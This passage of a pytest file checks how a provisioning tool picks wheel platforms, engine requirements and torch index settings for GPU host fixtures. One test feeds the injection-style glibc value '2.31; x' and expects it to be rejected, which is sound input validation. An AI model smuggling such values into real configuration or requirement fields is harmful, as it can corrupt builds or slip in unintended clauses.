    with pytest.raises(InvalidInput, match="is not a glibc version"):
        python_platform("linux", "x86_64", "2.31; x")


@pytest.mark.parametrize(("host", "engine", "platform", "serving"), [
    ("linux-x86_64-a100-80gb-driver550", "auto", "x86_64-manylinux_2_31", False),  # vLLM 0.19.1: manylinux_2_31
    ("linux-x86_64-h100-80gb-driver580", "sglang", "x86_64-manylinux_2_34", False),
    ("linux-x86_64-h100-80gb-driver580", "transformers", "x86_64-manylinux_2_28", True),
])
def test_render_resolves_an_engine_plan_for_its_wheels_without_transformers_serving(
        monkeypatch, tmp_path, host, engine, platform, serving):
    from pathlib import Path

    import provision.render.requirements as requirements
    from provision.plan.usecase import PlanRequest
    from provision.render.usecase import RenderRequest, render_command

    asked = []

    def fake_resolve(request, **_kw):
        asked.append(request)
        return requirements.unresolved(request.packages, "recorded")

    monkeypatch.setattr(requirements, "resolve", fake_resolve)
    hosts = Path(__file__).parent / "fixtures" / "hosts"
    result = render_command(RenderRequest(plan=PlanRequest(host=hosts / f"{host}.json", engine=engine),
                                          out=tmp_path / "out"), environ={"XDG_CACHE_HOME": str(tmp_path)})
    (request,) = asked
    assert request.platform == platform
    assert any(r.startswith("transformers[serving]==") for r in request.extra_requirements) == serving
    assert (request.torch_index is None) == (engine != "transformers")  # engines pin PyPI's torch
    assert result.plan.serve.engine != "transformers" or engine == "transformers"
